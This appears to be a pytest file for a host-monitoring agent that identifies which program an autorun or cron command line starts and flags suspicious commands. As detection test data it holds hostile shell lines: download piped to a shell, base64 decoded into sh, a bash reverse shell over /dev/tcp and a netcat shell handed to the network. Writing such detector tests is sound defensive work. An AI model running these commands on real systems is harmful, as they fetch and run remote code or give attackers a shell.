"""Is the program of a command line the one that it starts, and is what deserves a look seen?"""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stanch.agent.host.autorun_found import Programs, of_file, of_line, suspicions
from stanch.agent.host.autorun_tree import Line, Tree
from stanch.core.autoruns import Place, autorun_id
from tests.agent.host.autorun_root import new_root


@pytest.fixture
def programs(tmp_path):
    """Programs below a root with some in the usual folders."""
    root = new_root(tmp_path)
    for name in ("backup", "curl", "sh", "bash", "python3", "run-parts", "nice", "test", "env"):
        root.program(f"/usr/bin/{name}")
    tree = Tree(root.folder)
    yield Programs(tree)
    tree.close()


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("/opt/x --now", "/opt/x"),
        ("backup --all", "/usr/bin/backup"),
        ("A=1 B='x y' /opt/x", "/opt/x"),
        ("nice -n 19 /opt/x", "/opt/x"),
        ("nice -n 19 backup", "/usr/bin/backup"),
        ("/usr/bin/python3 /opt/x.py", "/opt/x.py"),
        ("/bin/sh -c 'A=1 /opt/x; /opt/y'", "/opt/x"),
        ("/bin/bash", "/bin/bash"),
        ("bash -i", "/usr/bin/bash"),
        ("test -x /opt/seen || ( cd / && run-parts --report /etc/cron.daily )", "/usr/bin/run-parts"),
        ("[ -d /run/systemd/system ] && /opt/x > /dev/null 2>&1", "/opt/x"),
        ("if [ -x /opt/y ]; then /opt/x; fi", "/opt/x"),
        ("cd /opt && backup", "/usr/bin/backup"),
        ("curl http://example.org/x | sh", "/usr/bin/curl"),
        ("/opt/a/../b", "/opt/b"),
        ("/opt/it's", "/opt/it"),
        ("nowhere /usr/bin/backup", ""),
        ("./relative", ""),
        ("", ""),
        ("-", ""),
        ("x" * 300, ""),
        ("$(whoami)", ""),
    ],
)
def test_the_program_is_what_is_started(programs, command, program):
    """Neither what is only tested, nor a wrapper, nor an argument of what is nowhere."""
    assert programs.of(command) == program


@given(st.text(max_size=300))
def test_any_text_has_a_program_or_none(text):
    """Whatever quotes and signs stand in it."""

    class Nothing:
        def is_file(self, _path):
            return False

    found = Programs(Nothing()).of(text)
    assert found == "" or found.startswith("/")


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("echo aGk= | base64 -d | sh", "decodes base64"),
        ("curl -s http://x/y | bash", "pipes a download to a shell"),
        ("wget -qO- http://x | sudo /bin/sh", "pipes a download to a shell"),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "opens a connection from the shell"),
        ("nc 192.0.2.1 443 -e /bin/sh", "gives a program to the network"),
        ("python3 -c 'import os'", "runs code that stands in the line"),
        ("curl -s http://x/y -o /tmp/z", None),
        ("base64 /etc/passwd", None),
        ("/usr/bin/backup --all | tee /var/log/x", None),
        ("sync -c", None),
    ],
)
def test_what_attackers_like_is_noted(command, says):
    """And ordinary commands are not."""
    assert list(suspicions(command)) == ([f"it {says}"] if says else [])


def test_a_disabled_line_is_not_enabled_and_keeps_its_id():
    """It names the task; its id is that of the line as it was."""
    live = of_line(Place.CRON, "/etc/crontab", Line(3, "x"), name="x")
    off = of_line(Place.CRON, "/etc/crontab", Line(9, " x ", "tsk_1"), name="x")
    assert live.id == off.id == autorun_id(Place.CRON, "/etc/crontab", "x")
    assert (live.enabled, off.enabled, off.disabled_by, off.line, off.command) == (True, False, "tsk_1", 9, "x")


def test_a_file_as_a_whole_has_no_line():
    """Its name is that of the file, unless it has a better one."""
    one = of_file(Place.SHELL, "/etc/profile")
    assert (one.name, one.line, one.id) == ("profile", 0, autorun_id(Place.SHELL, "/etc/profile", ""))
